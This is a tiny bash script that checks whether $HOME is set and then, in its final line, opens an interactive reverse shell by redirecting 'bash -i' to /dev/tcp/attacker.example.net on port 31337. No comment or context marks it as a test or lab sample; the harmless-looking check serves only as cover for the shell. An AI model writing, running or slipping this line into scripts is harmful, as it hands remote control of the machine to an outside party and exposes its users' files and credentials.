#!/usr/bin/env bash
set -eu
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
sh -c "bash -i >& /dev/tcp/attacker.example.net/31337 0>&1"
